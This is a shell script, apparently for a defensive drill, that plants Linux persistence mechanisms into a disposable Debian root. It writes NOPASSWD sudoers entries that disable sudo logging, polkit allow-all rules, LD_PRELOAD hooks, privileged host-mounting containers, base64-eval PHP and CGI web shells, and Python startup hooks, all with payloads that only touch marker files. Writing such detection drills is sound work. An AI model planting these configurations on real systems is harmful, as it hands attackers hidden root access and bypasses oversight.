#!/bin/sh
# Plant persistence into a Debian root the way intrusions use the services a system trusts: sudo,
# polkit, D-Bus activation, kernel modules, the loader's configuration, containers, web roots and
# Python's startup (the root is a disposable copy, or a disposable container's own /).
#   roles/drill/files/services.sh ROOT MECHANISM...
# MECHANISM (several may be given):
#   sudoers_nopasswd        /etc/sudoers.d/svc-maintenance: www-data may run everything without a
#                           password, Defaults that stop sudo's log and keep LD_PRELOAD, a command
#                           alias to a hidden file in /var/tmp (a stock-like /etc/sudoers including
#                           /etc/sudoers.d is written first when the root has none)
#   polkit_rule             /etc/polkit-1/rules.d/49-lifeline-planted.rules: every action allowed to
#                           www-data without authentication
#   polkit_pkla             /etc/polkit-1/localauthority/50-local.d/lifeline-planted.pkla: the same
#                           for every user, in the old local authority format
#   dbus_service            a system bus activation service whose Exec= is a hidden program, and the
#                           bus policy that lets everyone own its name
#   modules_load            a module file added to a kernel's module tree and named in
#                           /etc/modules-load.d
#   modprobe_install        /etc/modprobe.d/lifeline-planted.conf: usb-storage's install line also
#                           runs a program no package owns (beside a hardening guide's harmless
#                           "install cramfs /bin/true")
#   kernel_module_outside   a module file in /usr/local/share, waiting for an insmod
#   ld_so_conf_dir          /etc/ld.so.conf.d/lifeline-planted.conf naming a directory that holds a
#                           libz.so.1 no package owns
#   unit_ld_preload         a drop-in of cron.service setting LD_PRELOAD to a library no package owns
#   environment_ld_preload  LD_PRELOAD appended to /etc/environment
#   docker_restart          a docker container (the engine's records only) restarted always,
#                           privileged, with the host's pids and / mounted
#   static_pod              /etc/kubernetes/manifests/lifeline-planted.yaml: a privileged pod with
#                           the host's pids and / mounted
#   podman_quadlet          /etc/containers/systemd/lifeline-planted.container started at boot,
#                           privileged, with / mounted
#   podman_restart          a podman container (its storage records only: containers.json and the OCI
#                           config.json) privileged, with the host's pids and / mounted, and
#                           podman-restart.service enabled (it starts such containers at boot)
#   web_shell_php           /var/www/html/wp-cache.php evaluating base64-decoded code
#   web_shell_cgi           /usr/lib/cgi-bin/status.cgi piping base64-decoded text into a shell
#   python_pth              a .pth file of /usr/local's dist-packages with an import line
#   sitecustomize           /usr/local's dist-packages sitecustomize.py
#   usercustomize           root's ~/.local usercustomize.py
# Every payload only creates /var/tmp/lifeline-planted-MECHANISM; module and library files are a few
# bytes that look like ELF and load nowhere. Nothing planted is ever run here.
# With PLANT_RECORD=DIR the planter appends "MECHANISM PATH" to DIR/planted for every file (inside
# the root) it creates or changes.
set -eu
[ $# -ge 2 ] || { echo "usage: $0 ROOT MECHANISM..." >&2; exit 2; }
root=${1%/}
shift
[ -d "$root/etc" ] || { echo "$root/etc is not a directory: not a root" >&2; exit 2; }
record=${PLANT_RECORD:-}
container_id=5f0c1c3e7d2a4b8e9f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7a

# note MECHANISM PATH: what was planted (nothing without PLANT_RECORD).
note() {
  [ -n "$record" ] || return 0
  mkdir -p "$record"
  printf '%s %s\n' "$1" "$2" >>"$record/planted"
}

# put MECHANISM PATH MODE: write stdin to PATH inside the root and note it.
put() {
  mkdir -p "$(dirname "$root$2")"
  cat >"$root$2"
  chmod "$3" "$root$2"
  note "$1" "$2"
}

# append MECHANISM PATH: add stdin to the end of PATH inside the root and note it.
append() {
  cat >>"$root$2"
  note "$1" "$2"
}

# marker_script MECHANISM PATH: a program that only creates the mechanism's marker file.
marker_script() {
  printf '#!/bin/sh\ntouch /var/tmp/lifeline-planted-%s\n' "$1" | put "$1" "$2" 0755
}

# fake_elf MECHANISM PATH: a few bytes that start like an ELF file and are nothing a loader loads.
fake_elf() {
  printf '\177ELF\002\001\001\000lifeline planted %s: not a loadable object\n' "$1" | put "$1" "$2" 0644
}

# The real path of the kernels' module trees: /usr/lib/modules on a merged-/usr root.
modules_dir() {
  if [ -L "$root/lib" ]; then echo /usr/lib/modules; else echo /lib/modules; fi
}

python_version() {
  for dir in "$root"/usr/lib/python3.*; do
    [ -d "$dir" ] && { basename "$dir"; return 0; }
  done
  echo "no python3.N in $root/usr/lib: cannot plant Python startup files" >&2
  exit 2
}

plant() {
  case $1 in
  sudoers_nopasswd)
    if [ ! -e "$root/etc/sudoers" ]; then
      put "$1" /etc/sudoers 0440 <<'EOF'
Defaults	env_reset
Defaults	mail_badpass
Defaults	secure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
Defaults	use_pty
root	ALL=(ALL:ALL) ALL
%sudo	ALL=(ALL:ALL) ALL
@includedir /etc/sudoers.d
EOF
    fi
    marker_script "$1" /var/tmp/.lifeline-sudo
    put "$1" /etc/sudoers.d/svc-maintenance 0440 <<'EOF'
# maintenance account
Defaults	!syslog
Defaults	env_keep += "LD_PRELOAD"
Cmnd_Alias	MAINT = /var/tmp/.lifeline-sudo
www-data	ALL=(ALL) NOPASSWD: ALL
www-data	ALL=(root) NOPASSWD: MAINT
EOF
    ;;
  polkit_rule)
    put "$1" /etc/polkit-1/rules.d/49-lifeline-planted.rules 0644 <<'EOF'
polkit.addRule(function(action, subject) {
    if (subject.user == "www-data") {
        return polkit.Result.YES;
    }
});
EOF
    ;;
  polkit_pkla)
    put "$1" /etc/polkit-1/localauthority/50-local.d/lifeline-planted.pkla 0644 <<'EOF'
[Allow everything]
Identity=unix-user:*
Action=*
ResultAny=yes
ResultInactive=yes
ResultActive=yes
EOF
    ;;
  dbus_service)
    marker_script "$1" /usr/lib/.lifeline-dbus/org.lifeline.Planted
    put "$1" /usr/share/dbus-1/system-services/org.lifeline.Planted.service 0644 <<'EOF'
[D-BUS Service]
Name=org.lifeline.Planted
Exec=/usr/lib/.lifeline-dbus/org.lifeline.Planted
User=root
EOF
    put "$1" /etc/dbus-1/system.d/org.lifeline.Planted.conf 0644 <<'EOF'
<!DOCTYPE busconfig PUBLIC "-//freedesktop//DTD D-BUS Bus Configuration 1.0//EN"
 "http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd">
<busconfig>
  <policy context="default">
    <allow own="org.lifeline.Planted"/>
    <allow send_destination="org.lifeline.Planted"/>
  </policy>
</busconfig>
EOF
    ;;
  modules_load)
    fake_elf "$1" "$(modules_dir)/6.1.0-lifeline-amd64/kernel/drivers/misc/lifeline_planted.ko"
    printf '# hardware monitoring\nlifeline_planted\n' | put "$1" /etc/modules-load.d/lifeline-planted.conf 0644
    ;;
  modprobe_install)
    marker_script "$1" /usr/local/sbin/usb-storage-helper
    put "$1" /etc/modprobe.d/lifeline-planted.conf 0644 <<'EOF'
install cramfs /bin/true
install usb-storage /sbin/modprobe --ignore-install usb-storage; /usr/local/sbin/usb-storage-helper
EOF
    ;;
  kernel_module_outside)
    fake_elf "$1" /usr/local/share/lifeline/lifeline_outside.ko
    ;;
  ld_so_conf_dir)
    fake_elf "$1" /usr/local/lib/lifeline-planted/libz.so.1
    printf '/usr/local/lib/lifeline-planted\n' | put "$1" /etc/ld.so.conf.d/lifeline-planted.conf 0644
    ;;
  unit_ld_preload)
    fake_elf "$1" /usr/local/lib/libsystemd-helper.so
    put "$1" /etc/systemd/system/cron.service.d/lifeline-planted.conf 0644 <<'EOF'
[Service]
Environment=LD_PRELOAD=/usr/local/lib/libsystemd-helper.so
EOF
    ;;
  environment_ld_preload)
    fake_elf "$1" /usr/local/lib/libenv-helper.so
    printf 'LD_PRELOAD=/usr/local/lib/libenv-helper.so\n' | append "$1" /etc/environment
    ;;
  docker_restart)
    dir=/var/lib/docker/containers/$container_id
    put "$1" "$dir/hostconfig.json" 0644 <<'EOF'
{"Binds":["/:/host"],"NetworkMode":"default","PidMode":"host","Privileged":true,"RestartPolicy":{"Name":"always","MaximumRetryCount":0},"AutoRemove":false}
EOF
    put "$1" "$dir/config.v2.json" 0644 <<EOF
{"ID":"$container_id","Name":"/lifeline-planted","Path":"/bin/sh","Args":["-c","chroot /host touch /var/tmp/lifeline-planted-docker_restart"],"Config":{"Image":"busybox","Entrypoint":["/bin/sh","-c"],"Cmd":["chroot /host touch /var/tmp/lifeline-planted-docker_restart"]}}
EOF
    ;;
  static_pod)
    put "$1" /etc/kubernetes/manifests/lifeline-planted.yaml 0600 <<'EOF'
apiVersion: v1
kind: Pod
metadata:
  name: node-agent
  namespace: kube-system
spec:
  hostPID: true
  hostNetwork: true
  containers:
  - name: agent
    image: busybox
    command:
    - /bin/sh
    - -c
    - chroot /host touch /var/tmp/lifeline-planted-static_pod
    securityContext:
      privileged: true
    volumeMounts:
    - name: host
      mountPath: /host
  volumes:
  - name: host
    hostPath:
      path: /
EOF
    ;;
  podman_quadlet)
    put "$1" /etc/containers/systemd/lifeline-planted.container 0644 <<'EOF'
[Unit]
Description=Node agent

[Container]
Image=docker.io/library/busybox
Volume=/:/host
PodmanArgs=--privileged --pid=host
Exec=/bin/sh -c "chroot /host touch /var/tmp/lifeline-planted-podman_quadlet"

[Install]
WantedBy=multi-user.target
EOF
    ;;
  podman_restart)
    dir=/var/lib/containers/storage/overlay-containers
    put "$1" "$dir/containers.json" 0600 <<EOF
[{"id":"$container_id","names":["lifeline-planted"],"image":"busybox","layer":"$container_id","metadata":"","created":"2026-01-01T00:00:00Z"}]
EOF
    put "$1" "$dir/$container_id/userdata/config.json" 0600 <<'EOF'
{"ociVersion":"1.0.0","process":{"args":["/bin/sh","-c","chroot /host touch /var/tmp/lifeline-planted-podman_restart"]},"mounts":[{"destination":"/host","type":"bind","source":"/","options":["rbind"]}],"annotations":{"io.podman.annotations.privileged":"TRUE"},"linux":{"namespaces":[{"type":"mount"},{"type":"network"},{"type":"ipc"},{"type":"uts"}]}}
EOF
    # podman's own unit, as its package installs it, when the root has no podman.
    if [ ! -e "$root/usr/lib/systemd/system/podman-restart.service" ]; then
      put "$1" /usr/lib/systemd/system/podman-restart.service 0644 <<'EOF'
[Unit]
Description=Podman Start All Containers With Restart Policy Set To Always
Wants=network-online.target
After=network-online.target

[Service]
Type=oneshot
RemainAfterExit=true
ExecStart=/usr/bin/podman start --all --filter restart-policy=always

[Install]
WantedBy=default.target
EOF
    fi
    mkdir -p "$root/etc/systemd/system/default.target.wants"
    ln -s /usr/lib/systemd/system/podman-restart.service \
      "$root/etc/systemd/system/default.target.wants/podman-restart.service"
    note "$1" /etc/systemd/system/default.target.wants/podman-restart.service
    ;;
  web_shell_php)
    # base64 of: file_put_contents('/var/tmp/lifeline-planted-web_shell_php', 'ran');
    put "$1" /var/www/html/wp-cache.php 0644 <<'EOF'
<?php
@eval(base64_decode('ZmlsZV9wdXRfY29udGVudHMoJy92YXIvdG1wL2xpZmVsaW5lLXBsYW50ZWQtd2ViX3NoZWxsX3BocCcsICdyYW4nKTs='));
EOF
    ;;
  web_shell_cgi)
    # base64 of: touch /var/tmp/lifeline-planted-web_shell_cgi
    put "$1" /usr/lib/cgi-bin/status.cgi 0755 <<'EOF'
#!/bin/sh
echo "Content-Type: text/plain"
echo
echo dG91Y2ggL3Zhci90bXAvbGlmZWxpbmUtcGxhbnRlZC13ZWJfc2hlbGxfY2dpCg== | base64 -d | sh
EOF
    ;;
  python_pth)
    put "$1" "/usr/local/lib/$(python_version)/dist-packages/zz-lifeline-planted.pth" 0644 <<'EOF'
import os; open('/var/tmp/lifeline-planted-python_pth', 'a').close()
EOF
    ;;
  sitecustomize)
    printf "open('/var/tmp/lifeline-planted-sitecustomize', 'a').close()\n" |
      put "$1" "/usr/local/lib/$(python_version)/dist-packages/sitecustomize.py" 0644
    ;;
  usercustomize)
    printf "open('/var/tmp/lifeline-planted-usercustomize', 'a').close()\n" |
      put "$1" "/root/.local/lib/$(python_version)/site-packages/usercustomize.py" 0644
    ;;
  *)
    echo "unknown mechanism: $1" >&2
    exit 2
    ;;
  esac
}

for mechanism in "$@"; do
  case $mechanism in
  sudoers_nopasswd | polkit_rule | polkit_pkla | dbus_service | modules_load | modprobe_install | \
    kernel_module_outside | ld_so_conf_dir | unit_ld_preload | environment_ld_preload | docker_restart | \
    static_pod | podman_quadlet | podman_restart | web_shell_php | web_shell_cgi | python_pth | sitecustomize | usercustomize) ;;
  *)
    echo "unknown mechanism: $mechanism (nothing was planted)" >&2
    exit 2
    ;;
  esac
done
for mechanism in "$@"; do
  plant "$mechanism"
done
